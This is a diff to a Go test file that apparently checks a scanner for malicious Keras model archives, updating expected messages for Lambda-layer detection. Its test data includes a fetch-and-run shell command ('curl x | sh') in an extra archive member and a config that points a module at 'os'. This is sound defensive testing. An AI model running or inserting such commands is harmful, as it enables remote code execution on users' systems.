@@ -79,9 +79,9 @@ func TestKerasArchiveAttacks(t *testing.T) {
 		members []kerasMember
 		want    string
 	}{
-		{"lambda-keras-order", kerasStandard(lambda), "config.json $.config.layers[2].config.function: __lambda__"},
-		{"lambda-config-after-weights", []kerasMember{meta, w, cfg(lambda)}, "__lambda__"},
-		{"lambda-metadata-last", []kerasMember{cfg(lambda), w, meta}, "__lambda__"},
+		{"lambda-keras-order", kerasStandard(lambda), "Keras archive: config.json: Lambda layer at $.config.layers[2]: "},
+		{"lambda-config-after-weights", []kerasMember{meta, w, cfg(lambda)}, "Lambda layer at"},
+		{"lambda-metadata-last", []kerasMember{cfg(lambda), w, meta}, "Lambda layer at"},
 		{"module-outside-namespace", kerasStandard(strings.Replace(seq, `"module": "keras.optimizers"`, `"module": "os"`, 1)), `module "os"`},
 		{"extra-member", append(kerasStandard(seq), kerasMember{Name: "payload.sh.txt", Text: "curl x | sh"}), `member "payload.sh.txt" is not one Keras's loader reads`},
 		{"extra-member-first", append([]kerasMember{{Name: "notes/readme.txt", Text: "hi"}}, kerasStandard(seq)...), `member "notes/readme.txt"`},
